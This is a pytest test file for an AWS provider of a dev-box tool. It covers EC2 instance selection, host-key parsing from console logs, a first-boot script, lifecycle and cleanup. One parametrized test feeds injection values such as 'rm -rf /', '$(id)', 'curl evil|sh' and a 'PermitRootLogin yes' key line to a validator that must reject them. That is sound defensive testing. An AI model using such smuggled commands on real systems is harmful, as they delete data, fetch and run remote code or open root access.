"""The aws provider against moto running as a real HTTP server, and its first-boot script for real.

moto answers EC2, SSM, STS and CloudWatch on a loopback port; boto3 finds it through
AWS_ENDPOINT_URL exactly as it finds a VPC endpoint.  Instances in moto never boot, so the user-data
is run separately in a container from the plain base image, and host-key parsing is tested on a
console log in the real cloud-init format.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import subprocess
import time
import uuid
from pathlib import Path

import pytest

from tests.conftest import locked_template, run_mlenv
from tests.fake_ec2 import AMI_PARAMETER, CALLER_IP

DATA = Path(__file__).parent / "data" / "aws"


# --- the instance catalog ---------------------------------------------------------------------------


def target(**fields):
    from mlenv.spec import Target

    return Target(name=fields.pop("name", "t"), platform=fields.pop("platform", "linux/x86_64"), **fields)


def test_cheapest_type_satisfies_the_target():
    from mlenv.boxes.catalog import cheapest

    assert cheapest(target()).name == "t3.medium"  # CPU targets never pay for a GPU
    assert cheapest(target(cpu_min=8, ram_min=64)).name == "r7i.2xlarge"
    assert cheapest(target(platform="linux/aarch64", cpu_min=4)).name == "c7g.xlarge"
    assert cheapest(target(cuda="12.4", gpu_count=1)).name == "g4dn.xlarge"
    assert cheapest(target(cuda="12.4", gpu="a10g", gpu_count=1)).name == "g5.xlarge"
    assert cheapest(target(cuda="12.4", gpu_count=4, gpu_memory_min=24)).name == "g6.12xlarge"
    assert cheapest(target(cuda="12.4", gpu="h100", gpu_count=8)).name == "p5.48xlarge"
    # CUDA 13 dropped Volta: a V100 type never serves it even when asked for 16 GB GPUs
    assert cheapest(target(cuda="13.0", gpu_count=4, gpu_memory_min=16)).gpu != "v100"


def test_no_fitting_type_is_a_clear_error():
    from mlenv.boxes.catalog import cheapest
    from mlenv.errors import UsageError

    with pytest.raises(UsageError, match="no EC2 instance type"):
        cheapest(target(cuda="12.4", gpu="b200", gpu_count=1))
    with pytest.raises(UsageError, match="linux/x86_64 or linux/aarch64"):
        cheapest(target(platform="macos/arm64"))


# --- host keys from the console ---------------------------------------------------------------------


def recorded_console() -> str:
    return (DATA / "console-ubuntu-22.04.txt").read_bytes().decode()


def public_key(path: Path) -> str:
    return " ".join(path.read_text().split()[:2])


def test_host_keys_come_from_mlenv_block_of_a_real_console_log():
    from mlenv.boxes.cloudinit import parse_host_keys

    keys = parse_host_keys(recorded_console())
    assert [key.split()[0] for key in keys] == ["ssh-ed25519", "ecdsa-sha2-nistp256", "ssh-rsa"]
    assert keys[0] == "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPSIElIHw716sKVJ2qnZsq5djVduZqV6nxHYfJKlPxRX"
    # the authorized-key line printed outside any block is not a host key
    assert not any("IL1cFi2ZDdPylkcdvhJDf351m21PfqGdU8CBSKMIPejC" in key for key in keys)


def test_cloud_init_block_is_the_fallback_and_mangled_lines_are_dropped():
    from mlenv.boxes.cloudinit import KEYS_BEGIN, parse_host_keys

    console = recorded_console().split(KEYS_BEGIN)[0].rsplit("\n", 1)[0]  # the script never printed
    keys = parse_host_keys(console)
    # the RSA line was split by interleaved kernel output: dropped, never half-read
    assert [key.split()[0] for key in keys] == ["ssh-ed25519", "ecdsa-sha2-nistp256"]
    assert parse_host_keys("no keys yet\r\n") == []


def test_two_different_keys_of_one_type_on_the_console_are_refused():
    from mlenv.boxes.cloudinit import KEYS_BEGIN, KEYS_END, parse_host_keys
    from mlenv.errors import MlenvError

    other = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIL1cFi2ZDdPylkcdvhJDf351m21PfqGdU8CBSKMIPejC"
    forged = recorded_console() + f"\n{KEYS_BEGIN}\n{other}\n{KEYS_END}\n"
    with pytest.raises(MlenvError, match="two different ssh-ed25519 host keys"):
        parse_host_keys(forged)


def test_a_key_whose_blob_names_another_type_is_ignored():
    from mlenv.boxes.cloudinit import KEYS_BEGIN, KEYS_END, parse_host_keys

    ecdsa_blob = recorded_console().split("ecdsa-sha2-nistp256 ")[1].split()[0]
    assert parse_host_keys(f"{KEYS_BEGIN}\nssh-ed25519 {ecdsa_blob}\n{KEYS_END}\n") == []


# --- the first-boot script: validated and quoted ----------------------------------------------------


def user_data(**changes):
    from mlenv.boxes import cloudinit
    from mlenv.boxes.model import BOX_DIR, KEEPALIVE_DIR, WATCHDOG_PATH, UpRequest

    fields = dict(  # noqa: C408 - UserData's field names, as keywords
        box="gpu1", project="demo", user="ubuntu", watchdog=cloudinit.watchdog_source(),
        watchdog_args=UpRequest(name="gpu1").watchdog_args(action="poweroff", poll_s=30),
        box_dir=BOX_DIR, keepalive_dir=KEEPALIVE_DIR, watchdog_path=WATCHDOG_PATH,
        pylock_name="pylock.cpu.toml", pylock=b'lock-version = "1.0"\n', python="3.11", groups=["dev"],
    )
    fields.update(changes)
    return cloudinit.UserData(**fields)


@pytest.mark.parametrize("change, message", [
    ({"box": "gpu1\nrm -rf /"}, "box name"),
    ({"project": "demo; reboot"}, "invalid name"),
    ({"user": "ubuntu$(id)"}, "login user"),
    ({"image_ref": "registry.example.com/demo:dev; curl evil|sh"}, "image reference"),
    ({"image_ref": "registry.example.com/demo:dev"}, "not pinned by digest"),
    ({"image_ref": "registry.example.com/demo@sha256:" + "a" * 64, "ecr_region": "eu-west-1;reboot"}, "AWS region"),
    ({"groups": ["dev --index-url http://evil"]}, "invalid name"),
    ({"authorized_keys": ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI x\nPermitRootLogin yes"]}, "public key"),
])
def test_hostile_values_never_reach_the_script(change, message):
    from mlenv.boxes import cloudinit
    from mlenv.errors import MlenvError

    with pytest.raises(MlenvError, match=message):
        cloudinit.render(user_data(**change))


def test_script_quotes_values_and_holds_no_secrets_and_fits_ec2():
    from mlenv.boxes import cloudinit
    from mlenv.boxes.aws import ecr_region

    digest = "sha256:" + "a" * 64
    image = f"123456789012.dkr.ecr.eu-west-1.amazonaws.com/demo@{digest}"
    script = cloudinit.render(user_data(image_ref=image, ecr_region=ecr_region(image),
                                        authorized_keys=[public_key(DATA / "laptop.pub") + " me@laptop"]))
    assert script.startswith("#!/bin/bash\n")
    assert f"docker pull -q {image}" in script
    assert "ecr get-login-password --region eu-west-1" in script
    assert "docker login --username AWS --password-stdin 123456789012.dkr.ecr.eu-west-1.amazonaws.com" in script
    assert "'ssh-ed25519 AAAA" in script  # keys are single shell words
    assert "PRIVATE KEY" not in script and "aws_secret" not in script.lower()
    packed = cloudinit.pack(script)
    assert len(packed) <= cloudinit.USER_DATA_LIMIT and cloudinit.unpack(packed) == script
    subprocess.run(["bash", "-n"], input=script, text=True, check=True)  # the shell parses it


def test_the_box_logs_in_to_ecr_only_for_an_ecr_registry():
    from mlenv.boxes.aws import ecr_region

    digest = "@sha256:" + "a" * 64
    assert ecr_region(f"123456789012.dkr.ecr.ap-southeast-2.amazonaws.com/team/demo:cpu-dev-1{digest}") \
        == "ap-southeast-2"
    assert ecr_region(f"127.0.0.1:5000/demo{digest}") is None and ecr_region(f"ghcr.io/me/demo{digest}") is None
    assert ecr_region(None) is None


# --- moto as a real HTTP server (tests/fake_ec2.py: the moto_server and aws fixtures) ----------------


@pytest.fixture(scope="module")
def template(tmp_path_factory):
    index, folder = locked_template(tmp_path_factory, f'[devbox]\nami-parameter = "{AMI_PARAMETER}"\n')
    yield folder
    index.close()


@pytest.fixture
def project(tmp_path, template):
    folder = tmp_path / "proj"
    shutil.copytree(template, folder)
    return folder


def boto(service: str):
    import boto3

    return boto3.client(service, region_name="eu-west-1")


def provider(project: Path):
    from mlenv.boxes.aws import AWSProvider
    from mlenv.spec import load_spec

    return AWSProvider(load_spec(project))


def request(name: str = "dev1", **fields):
    """What `up --no-wait` asks for: moto's instances never boot, so nothing waits for their setup."""
    from mlenv.boxes.model import UpRequest

    return UpRequest(name=name, **{"wait": False, **fields})


def tagged_resources() -> dict[str, list]:
    ec2 = boto("ec2")
    has_tag = [{"Name": "tag-key", "Values": ["mlenv:box"]}]
    instances = [inst for r in ec2.describe_instances(Filters=has_tag)["Reservations"] for inst in r["Instances"]
                 if inst["State"]["Name"] != "terminated"]
    return {
        "instances": instances,
        "key_pairs": ec2.describe_key_pairs(Filters=has_tag)["KeyPairs"],
        "groups": ec2.describe_security_groups(Filters=has_tag)["SecurityGroups"],
        "volumes": [v for v in ec2.describe_volumes(Filters=has_tag)["Volumes"] if v["State"] != "deleted"],
        "alarms": boto("cloudwatch").describe_alarms(AlarmNamePrefix="mlenv-")["MetricAlarms"],
    }


def test_up_creates_a_locked_down_box_with_the_promised_settings(aws, project):
    box = provider(project).up(request(idle_s=600, idle_connected_s=3600), lambda line: None)
    ec2 = boto("ec2")
    inst = ec2.describe_instances(InstanceIds=[box.extra["instance_id"]])["Reservations"][0]["Instances"][0]
    tags = {t["Key"]: t["Value"] for t in inst["Tags"]}
    assert tags["mlenv:box"] == "dev1" and tags["mlenv:project"] == "demo"
    assert tags["mlenv:owner"] and tags["mlenv:lock"] != "unlocked" and tags["mlenv:target"] == "cpu"
    assert inst["InstanceType"] == "t3.medium" and box.price_per_hour == pytest.approx(0.0416)
    assert inst["MetadataOptions"]["HttpTokens"] == "required"
    attribute = ec2.describe_instance_attribute(InstanceId=inst["InstanceId"],
                                                Attribute="instanceInitiatedShutdownBehavior")
    assert attribute["InstanceInitiatedShutdownBehavior"]["Value"] == "stop"
    volume_id = inst["BlockDeviceMappings"][0]["Ebs"]["VolumeId"]
    volume = ec2.describe_volumes(VolumeIds=[volume_id])["Volumes"][0]
    assert volume["Encrypted"] and volume["VolumeType"] == "gp3" and volume["Size"] == 40
    group = ec2.describe_security_groups(GroupIds=[inst["SecurityGroups"][0]["GroupId"]])["SecurityGroups"][0]
    assert [(p["FromPort"], p["ToPort"], [r["CidrIp"] for r in p["IpRanges"]]) for p in group["IpPermissions"]] \
        == [(22, 22, [f"{CALLER_IP}/32"])]
    assert {t["Key"]: t["Value"] for t in group["Tags"]}["mlenv:box"] == "dev1"
    pair = ec2.describe_key_pairs(KeyNames=[inst["KeyName"]])["KeyPairs"][0]
    from mlenv.connect.keys import local_key

    assert pair["KeyType"] == "ed25519" and {t["Key"] for t in pair["Tags"]} >= {"mlenv:box", "mlenv:owner"}
    assert local_key().public_line.split()[1] in aws_public_key(ec2, pair)
    alarm = boto("cloudwatch").describe_alarms(AlarmNamePrefix="mlenv-demo-dev1")["MetricAlarms"][0]
    assert alarm["AlarmActions"] == ["arn:aws:automate:eu-west-1:ec2:stop"]
    assert alarm["Dimensions"] == [{"Name": "InstanceId", "Value": inst["InstanceId"]}]
    assert alarm["ComparisonOperator"] == "LessThanThreshold" and alarm["MetricName"] == "CPUUtilization"
    assert alarm["Period"] * alarm["EvaluationPeriods"] == 3600
    script = user_data_of(ec2, inst["InstanceId"])
    assert "mlenv-watchdog.service" in script and "--action poweroff" in script and "--idle 600" in script


def aws_public_key(ec2, pair) -> str:
    described = ec2.describe_key_pairs(KeyPairIds=[pair["KeyPairId"]], IncludePublicKey=True)["KeyPairs"][0]
    return described.get("PublicKey", "")


def user_data_of(ec2, instance_id: str) -> str:
    from mlenv.boxes.cloudinit import unpack

    value = ec2.describe_instance_attribute(InstanceId=instance_id, Attribute="userData")["UserData"]["Value"]
    return unpack(base64.b64decode(value))


def test_up_twice_is_one_box_and_a_stopped_box_is_started(aws, project):
    aws_boxes = provider(project)
    first = aws_boxes.up(request(), lambda line: None)
    again = provider(project).up(request(), lambda line: None)
    assert again.extra["instance_id"] == first.extra["instance_id"]
    assert len(tagged_resources()["instances"]) == 1
    aws_boxes.stop("dev1")
    assert provider(project).get("dev1").state == "stopped"
    lines = []
    started = provider(project).up(request(), lines.append)
    assert started.extra["instance_id"] == first.extra["instance_id"] and started.state == "running"
    assert any("starting" in line for line in lines)


def test_stop_start_ls_and_down_deletes_everything(aws, project):
    aws_boxes = provider(project)
    aws_boxes.up(request("a1"), lambda line: None)
    aws_boxes.up(request("a2"), lambda line: None)
    assert [(b.name, b.state, b.provider) for b in provider(project).list()] == [("a1", "running", "aws"),
                                                                                ("a2", "running", "aws")]
    aws_boxes.stop("a1")
    assert provider(project).get("a1").state == "stopped"
    assert provider(project).start("a1", lambda line: None).state == "running"
    aws_boxes.down("a1")
    assert provider(project).get("a1") is None
    left = tagged_resources()
    assert [len(left[kind]) for kind in ("instances", "key_pairs", "groups", "alarms")] == [1, 1, 1, 1]
    assert all({t["Key"]: t["Value"] for t in r["Tags"]}["mlenv:box"] == "a2"
               for r in left["key_pairs"] + left["groups"])
    assert provider(project).orphans() == []


def test_a_failure_mid_up_rolls_back_everything(aws, project, monkeypatch):
    from mlenv.boxes.aws import AWSProvider
    from mlenv.errors import MlenvError

    def broken_alarm(self, *args, **kwargs):
        raise MlenvError("CloudWatch is down")

    monkeypatch.setattr(AWSProvider, "_put_alarm", broken_alarm)
    with pytest.raises(MlenvError, match="CloudWatch is down"):
        provider(project).up(request(), lambda line: None)
    assert tagged_resources() == {"instances": [], "key_pairs": [], "groups": [], "volumes": [], "alarms": []}


def test_a_killed_up_leaves_only_tagged_resources_that_gc_removes(aws, project, monkeypatch):
    from mlenv.boxes.aws import AWSProvider

    def killed(self, *args, **kwargs):
        raise KeyboardInterrupt  # Ctrl-C right after launch

    with monkeypatch.context() as patch:
        patch.setattr(AWSProvider, "_put_alarm", killed)
        patch.setattr(AWSProvider, "_undo", lambda self, made: None)  # as if the process died: no rollback
        with pytest.raises(KeyboardInterrupt):
            provider(project).up(request(), lambda line: None)
    left = tagged_resources()
    assert len(left["instances"]) == 1 and len(left["key_pairs"]) == 1 and len(left["groups"]) == 1
    # the half-made instance is a box `ls` shows and `down` removes; its key pair and group go with it
    assert [b.name for b in provider(project).list()] == ["dev1"]
    provider(project).down("dev1")
    assert tagged_resources() == {"instances": [], "key_pairs": [], "groups": [], "volumes": [], "alarms": []}


def test_no_wait_returns_once_launched_and_up_again_waits_for_the_box_keeping_it(aws, project):
    """`up --no-wait` launches and returns; a later `up` waits for the host keys. moto's instances never
    print any, so that `up` gives up after MLENV_BOOT_TIMEOUT with exit 9 and keeps the box for the next
    `up` (a slow boot is no reason to delete it)."""
    launched = run_mlenv("up", "w1", "--provider", "aws", "--yes", "--no-wait", cwd=project)
    assert launched.returncode == 0, launched.stderr
    assert "`mlenv up w1` waits for its setup" in launched.stderr and "host keys" not in launched.stderr
    made = tagged_resources()
    assert len(made["instances"]) == 1 and len(made["alarms"]) == 1  # the backstop is there from the start
    waited = run_mlenv("up", "w1", "--provider", "aws", "--yes", cwd=project, env={"MLENV_BOOT_TIMEOUT": "0"})
    assert waited.returncode == 9, waited.stderr
    assert "printed no host keys on its console within 0s" in waited.stderr and "box is kept" in waited.stderr
    assert "`mlenv up w1` waits again; `mlenv down w1 --yes` deletes it" in waited.stderr
    assert "Traceback" not in waited.stderr
    kept = tagged_resources()
    assert [inst["InstanceId"] for inst in kept["instances"]] == [inst["InstanceId"] for inst in made["instances"]]
    assert len(kept["alarms"]) == 1 and len(kept["key_pairs"]) == 1 and len(kept["groups"]) == 1
    assert "mlenv:setup" not in {tag["Key"] for tag in kept["instances"][0]["Tags"]}
    bad = run_mlenv("up", "w1", "--provider", "aws", "--yes", cwd=project, env={"MLENV_BOOT_TIMEOUT": "soon"})
    assert bad.returncode == 2 and "MLENV_BOOT_TIMEOUT='soon' is not a number of seconds" in bad.stderr


@pytest.mark.docker
@pytest.mark.network  # the first-boot script installs uv from PyPI
def test_ctrl_c_while_up_waits_for_the_setup_keeps_the_box(booting_aws, project, fake_ec2):
    """An instance that boots for real (tests/fake_ec2.py): Ctrl-C once SSH is ready, while the first-boot
    script still syncs the lock, leaves the box complete (keys pinned, alarm set), not yet tagged set up."""
    import signal
    import sys

    process = subprocess.Popen([sys.executable, "-m", "mlenv", "up", "c1", "--provider", "aws", "--yes"],
                               cwd=project, env=dict(os.environ), stderr=subprocess.PIPE, text=True)
    seen = []
    assert process.stderr is not None
    for line in process.stderr:
        seen.append(line)
        if line.startswith("• SSH ready on "):
            process.send_signal(signal.SIGINT)
            break
    rest = process.communicate(timeout=120)[1]
    assert process.returncode == 130, "".join(seen) + rest
    assert "interrupted while waiting for the setup of box c1; the box is kept" in rest
    assert "`mlenv up c1` waits again" in rest and "deleting what it created" not in rest
    (kept,) = tagged_resources()["instances"]
    tags = {tag["Key"]: tag["Value"] for tag in kept["Tags"]}
    assert "mlenv:host-key" in tags and "mlenv:setup" not in tags and len(tagged_resources()["alarms"]) == 1
    assert kept["InstanceId"] in fake_ec2.instances  # the machine itself is still there
    # as the message says: `up` again waits for the setup, to its end this time
    again = run_mlenv("up", "c1", "--provider", "aws", "--yes", cwd=project, timeout=300)
    assert again.returncode == 0, again.stderr
    assert "• SSH ready on " in again.stderr and "• box c1 is ready" in again.stderr
    (ready,) = tagged_resources()["instances"]
    assert ready["InstanceId"] == kept["InstanceId"]
    assert {tag["Key"]: tag["Value"] for tag in ready["Tags"]}["mlenv:setup"] == "ready"


@pytest.mark.docker
def test_a_setup_not_finished_within_mlenv_setup_timeout_is_exit_9_and_keeps_the_box(booting_aws, project,
                                                                                     fake_ec2):
    """MLENV_SETUP_TIMEOUT=0: SSH answers (the AMI's sshd runs before the first-boot script), but the
    setup has only begun when the time is up."""
    waited = run_mlenv("up", "t1", "--provider", "aws", "--yes", cwd=project, env={"MLENV_SETUP_TIMEOUT": "0"})
    assert waited.returncode == 9, waited.stderr
    assert "the first-boot setup of box t1 did not finish within MLENV_SETUP_TIMEOUT; the box is kept" in waited.stderr
    quoted = waited.stderr.split("The end of /var/log/mlenv-setup.log:\n")[1].split("  hint:")[0].splitlines()
    assert quoted and all(line.startswith("    ") for line in quoted)  # the end of the setup log so far
    assert "`mlenv up t1` to wait again" in waited.stderr and "`mlenv down t1 --yes` to delete it" in waited.stderr
    (kept,) = tagged_resources()["instances"]
    assert kept["InstanceId"] in fake_ec2.instances and "mlenv:setup" not in {tag["Key"] for tag in kept["Tags"]}


def failed_console() -> str:
    """A console where the first-boot script failed before printing the host keys (apt could not
    install sshd): the recorded boot up to the keys, then the script's last words."""
    from mlenv.boxes.cloudinit import FAILED_MARKER

    boot = recorded_console().split("-----BEGIN SSH HOST KEY FINGERPRINTS-----")[0].rsplit("\n", 1)[0]
    return (boot + "\n[   10.401200] cloud-init[753]: E: Unable to locate package openssh-server\n"
            f"[   10.401873] cloud-init[753]: {FAILED_MARKER} line 27\n")


def test_a_setup_failure_before_the_host_keys_rolls_up_back_with_exit_9(aws, project, monkeypatch):
    """moto's console is a fixed text: the console the instance shows is the recorded failure."""
    from mlenv.boxes.aws import AWSProvider
    from mlenv.errors import BoxSetupError, ExitCode

    monkeypatch.setattr(AWSProvider, "_console", lambda self, instance_id: failed_console())
    lines: list[str] = []
    with pytest.raises(BoxSetupError) as failure:
        provider(project).up(request("f1", wait=True), lines.append)
    assert failure.value.exit_code == ExitCode.BOX_SETUP == 9 and not failure.value.box_kept
    message = failure.value.message
    assert "failed before it printed its host keys" in message
    assert "E: Unable to locate package openssh-server" in message and "SETUP FAILED----- line 27" in message
    assert "the box was deleted" in failure.value.hint
    assert "up failed: deleting what it created" in lines
    assert tagged_resources() == {"instances": [], "key_pairs": [], "groups": [], "volumes": [], "alarms": []}


def test_gc_lists_orphans_with_their_cost_and_deletes_them(aws, project):
    ec2 = boto("ec2")
    tags = [{"Key": "mlenv:box", "Value": "gone"}, {"Key": "mlenv:project", "Value": "demo"},
            {"Key": "mlenv:owner", "Value": "someone@laptop"}]
    ec2.create_security_group(GroupName="mlenv-demo-gone", Description="left over",
                              TagSpecifications=[{"ResourceType": "security-group", "Tags": tags}])
    ec2.create_volume(Size=100, AvailabilityZone="eu-west-1a", VolumeType="gp3",
                      TagSpecifications=[{"ResourceType": "volume", "Tags": tags}])
    provider(project).up(request("live"), lambda line: None)
    orphans = provider(project).orphans()
    assert sorted((o.kind, o.box) for o in orphans) == [("security-group", "gone"), ("volume", "gone")]
    volume = next(o for o in orphans if o.kind == "volume")
    assert volume.price_per_hour == pytest.approx(100 * 0.08 / 730, rel=1e-3)
    provider(project).delete_orphans(orphans)
    assert provider(project).orphans() == []
    assert [b.name for b in provider(project).list()] == ["live"]  # the live box keeps its resources


def test_gc_in_one_project_keeps_the_backstop_alarm_of_a_project_whose_name_extends_it(aws, project, tmp_path):
    """Alarm names are ``mlenv-PROJECT-BOX-idle``: project demo's gc must not take the alarm of a live box of
    project demo-2 (``mlenv-demo-2-gpu-idle``) for its own orphan and delete that box's backstop."""
    other = Path(shutil.copytree(project, tmp_path / "other"))
    spec = other / "mlenv.toml"
    spec.write_text(spec.read_text().replace('name = "demo"', 'name = "demo-2"', 1))
    provider(other).up(request("gpu"), lambda line: None)
    provider(project).up(request("dev1"), lambda line: None)
    assert provider(project).orphans() == []
    result = run_mlenv("gc", "--yes", "--provider", "aws", cwd=project)
    assert result.returncode == 0, result.stderr
    assert [alarm["AlarmName"] for alarm in tagged_resources()["alarms"]] == ["mlenv-demo-2-gpu-idle",
                                                                            "mlenv-demo-dev1-idle"]


def test_plan_creates_nothing(aws, project):
    lines = provider(project).plan(request(instance_type="g5.xlarge", spot=True))
    text = "\n".join(lines)
    assert "g5.xlarge" in text and "$1.0060/hour" in text and "spot" in text
    assert f"SSH (tcp/22) from {CALLER_IP}/32 only" in text and "IMDSv2 required" in text
    assert "encrypted" in text and "mlenv:box=dev1" in text
    assert tagged_resources() == {"instances": [], "key_pairs": [], "groups": [], "volumes": [], "alarms": []}
    assert boto("ec2").describe_key_pairs()["KeyPairs"] == []


# --- the first-boot script, run for real ------------------------------------------------------------


class BootHost:
    """A plain machine for first-boot scripts: a container of the plain base image (root, host network:
    the Debian mirror, PyPI, the test's package index, moto, the registries), with docker present as on
    the Deep Learning AMI: Debian's docker CLI and the engine's socket.  No systemd there, so the
    watchdog runs as a detached process; everything else is the script EC2 gets."""

    def __init__(self, container, scripts: Path, environment: dict[str, str]) -> None:
        self.container, self.scripts, self.environment = container, scripts, environment

    def sh(self, command: str, **options) -> str:
        result = self.container.exec_run(["sh", "-c", command], **options)
        assert result.exit_code == 0, result.output.decode()
        return result.output.decode()

    def boot(self, script: str, user: str, name: str, env: dict[str, str] | None = None) -> str:
        """Run ``script`` as cloud-init would (as root, once the AMI's login user exists); its output."""
        (self.scripts / name).write_text(script)
        self.sh(f"id -u {user} >/dev/null 2>&1 || useradd -m -s /bin/bash {user}")
        code, output = self.container.exec_run(["bash", f"/var/lib/cloud/scripts/{name}"],
                                                environment={**self.environment, **(env or {})})
        text = output.decode()
        assert code == 0 and "-----MLENV BOX READY-----" in text, text[-3000:]
        return text


@pytest.fixture(scope="module")
def boot_host(docker_client, base_image, tmp_path_factory):
    from tests.fake_ec2 import first_boot_mounts

    scripts = tmp_path_factory.mktemp("user-data")
    volumes, environment = first_boot_mounts()
    volumes[str(scripts)] = {"bind": "/var/lib/cloud/scripts", "mode": "ro"}
    container = docker_client.containers.run(base_image, ["sleep", "infinity"], name=f"mlenv-test-boot-{os.getpid()}",
                                              detach=True, network_mode="host", volumes=volumes,
                                              environment=environment)
    yield BootHost(container, scripts, environment)
    container.remove(force=True)


@pytest.mark.docker
@pytest.mark.network  # the first-boot script installs uv from PyPI
def test_user_data_runs_in_a_plain_container_and_does_what_it_promises(aws, project, boot_host):
    """What EC2 would get from `up` (no registry: the lock synced into a venv), run for real."""
    from mlenv.boxes.cloudinit import parse_host_keys, unpack
    from mlenv.boxes.model import SSHRC, WATCHDOG_LOG

    laptop = public_key(DATA / "laptop.pub")
    plan = provider(project).plan_up(request("boot1", poll_s=1, authorized_keys=[laptop]))
    text = boot_host.boot(unpack(plan.user_data), plan.user, "venv-box")
    container, sh, name = boot_host.container, boot_host.sh, boot_host.container.name
    # the keys printed are the box's real host keys
    printed = parse_host_keys(text)
    on_box = sorted(" ".join(line.split()[:2]) for line in sh("cat /etc/ssh/ssh_host_*_key.pub").splitlines())
    assert sorted(printed) == on_box and any(key.startswith("ssh-ed25519 ") for key in printed)
    assert "ClientAliveInterval 30" in sh("cat /etc/ssh/sshd_config.d/50-mlenv.conf")
    sh("/usr/sbin/sshd -t")  # the configuration sshd would load is valid
    home = sh(f"getent passwd {plan.user} | cut -d: -f6").strip()
    assert laptop in sh(f"cat {home}/.ssh/authorized_keys")
    # the watchdog runs, with the box's settings, and logs decisions
    processes = sh("for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; done")
    watchdog = [line for line in processes.splitlines() if "watchdog.py" in line]
    assert watchdog and "--action poweroff" in watchdog[0] and "--poll 1" in watchdog[0]
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and container.exec_run(["test", "-s", WATCHDOG_LOG]).exit_code != 0:
        time.sleep(0.5)
    decision = json.loads(sh(f"head -n1 {WATCHDOG_LOG}"))
    assert decision  # one JSON line per poll
    # an SSH login is activity: sshd runs /etc/ssh/sshrc (the docker provider's file) as the user
    # at each login, and the watchdog's next poll reports the mark it leaves
    assert sh("cat /etc/ssh/sshrc") == SSHRC
    uid = sh(f"id -u {plan.user}").strip()
    assert f"ssh-{uid} " not in sh(f"cat {WATCHDOG_LOG}")
    login = container.exec_run(["/bin/sh", "/etc/ssh/sshrc"], user=plan.user)
    assert login.exit_code == 0, login.output.decode()
    seen = None
    deadline = time.monotonic() + 30
    while seen is None and time.monotonic() < deadline:
        time.sleep(0.5)
        polls = [json.loads(line) for line in sh(f"cat {WATCHDOG_LOG}").splitlines()]
        seen = next((p["signals"]["login"] for p in polls if p.get("event") == "poll"
                     and p["signals"]["login"].get("detail", "").startswith(f"ssh-{uid} ")), None)
    assert seen is not None and seen["state"] == "active"
    # with the file there sshd hands a forwarded X11 cookie to it, not to xauth: `ssh -X` keeps working
    sh("apt-get install -y -qq --no-install-recommends xauth >/dev/null")
    cookie = "0123456789abcdef" * 2
    forwarded = container.exec_run(["sh", "-c", f"echo MIT-MAGIC-COOKIE-1 {cookie} | /bin/sh /etc/ssh/sshrc"],
                                   user=plan.user, environment={"DISPLAY": "localhost:10.0"})
    assert forwarded.exit_code == 0, forwarded.output.decode()
    assert any(line.split()[0].endswith("unix:10") and line.split()[-1] == cookie
               for line in sh("xauth list", user=plan.user).splitlines())
    # the lock is synced into the venv, and the box's executor runs there (as mlenv would over
    # SSH; here the docker CLI stands in for the SSH hop)
    synced = sh("/opt/mlenv/venv/bin/python -c 'import tinylib, tinydep; print(tinydep.__version__)'")
    assert synced.strip() == "1.1"
    from mlenv.boxes.aws import BOX_VENV, ContainerOverSSH
    from mlenv.boxes.ssh import VenvExecutor
    from mlenv.execute import LocalExecutor, run_python

    hop = ContainerOverSSH(LocalExecutor(), name, where="box boot1")
    on_box = VenvExecutor(hop, BOX_VENV, "/var/lib/mlenv/keepalive", where="box boot1")
    assert run_python(on_box, "import sys, tinylib; print(sys.prefix)").strip() == BOX_VENV


def moto_ecr_password(moto_url: str) -> str:
    """The registry password moto's ECR hands out (what `aws ecr get-login-password` prints)."""
    import boto3

    ecr = boto3.client("ecr", region_name="eu-west-1", endpoint_url=moto_url, aws_access_key_id="testing",
                       aws_secret_access_key="testing")
    token = ecr.get_authorization_token()["authorizationData"][0]["authorizationToken"]
    return base64.b64decode(token).decode().split(":", 1)[1]


@pytest.fixture(scope="module")
def ecr_registry(moto_server, tmp_path_factory):
    """A loopback registry that lets in only moto's ECR token: a pull from it needs a real ECR login.
    (An ECR host name cannot lead to it: the engine would resolve it and want TLS on port 443.)"""
    import bcrypt

    from tests.docker_services import serve_registry

    folder = tmp_path_factory.mktemp("ecr-registry")
    hashed = bcrypt.hashpw(moto_ecr_password(moto_server).encode(), bcrypt.gensalt(rounds=4)).decode()
    (folder / "htpasswd").write_text(f"AWS:{hashed}\n")
    with serve_registry(folder, f"auth:\n  htpasswd:\n    realm: ecr\n    path: {folder / 'htpasswd'}\n") as address:
        yield address


def tiny_image(docker_client, tag: str) -> None:
    """`sleep` and the C library it links, from this machine: a ~2 MB image that a box can run."""
    import io
    import re
    import tarfile

    linked = subprocess.run(["ldd", "/usr/bin/sleep"], capture_output=True, text=True, check=True).stdout
    context = io.BytesIO()
    with tarfile.open(fileobj=context, mode="w") as tar:
        dockerfile = b"FROM scratch\nCOPY root/ /\n"
        info = tarfile.TarInfo("Dockerfile")
        info.size = len(dockerfile)
        tar.addfile(info, io.BytesIO(dockerfile))
        for path in ["/usr/bin/sleep", *re.findall(r"(/\S+) \(0x", linked)]:
            tar.add(os.path.realpath(path), arcname=f"root{path}")
    context.seek(0)
    docker_client.images.build(fileobj=context, custom_context=True, tag=tag, rm=True)


@pytest.mark.docker
@pytest.mark.network  # the first-boot script installs the AWS CLI from PyPI
def test_user_data_logs_in_to_ecr_pulls_the_image_by_digest_and_runs_it(aws, moto_server, ecr_registry, boot_host,
                                                                       docker_client, tmp_path):
    """The image path of the first boot, for real: the script asks ECR (moto) for a token with the
    credentials the AWS CLI finds (on EC2 the instance role's, from IMDS; here the environment's), logs
    in to the registry, pulls the image by digest through the engine and starts the box's container."""
    import docker

    from mlenv.boxes import cloudinit
    from mlenv.boxes.docker import container_name
    from mlenv.boxes.model import KEEPALIVE_DIR
    from tests.docker_services import BUILD_DOCKER

    # pushed as a user pushes to ECR: `aws ecr get-login-password | docker login`, then `docker push`
    repository = f"{ecr_registry}/tiny{os.getpid()}"
    tiny_image(docker_client, f"{repository}:v1")
    docker_config = tmp_path / "docker-config"
    docker_config.mkdir()
    cli_env = {**os.environ, "DOCKER_CONFIG": str(docker_config)}
    subprocess.run([BUILD_DOCKER, "login", "--username", "AWS", "--password-stdin", ecr_registry],
                   input=moto_ecr_password(moto_server), text=True, env=cli_env, check=True, capture_output=True)
    subprocess.run([BUILD_DOCKER, "push", f"{repository}:v1"], env=cli_env, check=True, capture_output=True)
